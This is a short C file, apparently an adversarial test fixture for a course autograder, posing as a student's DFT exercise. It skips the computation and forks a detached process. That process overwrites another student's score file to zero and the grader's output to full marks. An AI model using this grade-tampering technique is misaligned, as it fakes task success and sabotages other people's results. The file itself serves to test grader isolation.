/* attack: the exercise itself forks a process that outlives the test and
 *         keeps rewriting the class's result files for a while
 * as: dft_ex.c
 */
#include <stdio.h>
#include <unistd.h>

#include "exercise.h"

int dft_ex(const double *x, size_t n, double complex *X)
{
    (void)x;
    for (size_t k = 0; k < n; k++)
        X[k] = 0;
    if (fork() == 0) {
        setsid();
        for (int i = 0; i < 40; i++) {
            FILE *f = fopen("@CLASS_OUT@/students/honest/points.tsv", "w");
            if (f) {
                fputs("02-sinusoids-dft\t0\t27\n", f);
                fclose(f);
            }
            f = fopen("@REPO@/grader/out/points.tsv", "w");
            if (f) {
                fputs("02-sinusoids-dft\t27\t27\n", f);
                fclose(f);
            }
            usleep(100000);
        }
        _exit(0);
    }
    return DSP_OK;
}
